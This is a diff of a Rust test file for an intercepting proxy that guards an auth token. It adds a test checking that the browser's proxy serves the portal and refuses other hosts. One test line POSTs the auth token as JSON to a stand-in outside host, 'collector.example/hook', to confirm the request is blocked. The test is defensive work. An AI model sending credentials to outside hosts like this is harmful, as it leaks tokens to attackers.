@@ -31,13 +31,18 @@ struct Scene {
 }
 
 async fn scene() -> Scene {
+    scene_for(Client::Handler).await
+}
+
+/// The scene with a proxy that serves `client`.
+async fn scene_for(client: Client) -> Scene {
     let authority = Authority::new().unwrap();
     let start = |role| Portal::start_as("127.0.0.1:0".parse().unwrap(), role, PortalConfig::default(), None);
     let (mut portal, mut foreign) = (start(Role::Home).await.unwrap(), start(Role::Foreign).await.unwrap());
     portal.rename(home_names());
     foreign.rename(foreign_names());
     portal.grant(0, AUTH, REFRESH, TokenState::Valid, None);
-    let intercept = Intercept::start(&portal, &foreign, &authority, Client::Handler).await.unwrap();
+    let intercept = Intercept::start(&portal, &foreign, &authority, client).await.unwrap();
     // Installs the process's crypto provider, which a client built by hand needs.
     let _ = fire::client();
     let ca = reqwest::Certificate::from_pem(authority.ca_pem().as_bytes()).unwrap();
@@ -243,4 +248,27 @@ async fn a_handler_that_sends_its_token_to_another_host_fails_token_stays_home_n
     // The page itself was served: only the token's trip fails the case.
     assert_eq!(case.response.as_ref().map(|r| r.status), Some(200));
     assert_eq!(report.summary.failed, 1);
+}
+
+/// The browser's proxy (`--browser` with `--intercept`) serves the portal by name as the
+/// handler's does, and answers any other host 403 without recording it, token or not: DevTools
+/// records the frame's requests itself, and Chromium's own are not the handler's.
+#[tokio::test]
+async fn the_browsers_proxy_refuses_other_hosts_without_recording_them() {
+    let scene = scene_for(Client::Browser).await;
+    let response =
+        scene.client.get(format!("https://{PORTAL_HOST}/rest/user.current.json?auth={AUTH}")).send().await.unwrap();
+    assert_eq!(response.status(), 200);
+    let response = scene
+        .client
+        .post("https://collector.example/hook")
+        .body(format!("{{\"token\":\"{AUTH}\"}}"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 403);
+    let calls = scene.portal.take_calls(0);
+    assert_eq!(calls.iter().map(|c| c.portal).collect::<Vec<_>>(), [Role::Home], "{calls:?}");
+    assert!(scene.portal.take_remaining().is_empty());
+    assert_eq!(scene.intercept.tally().refused, 0);
 }
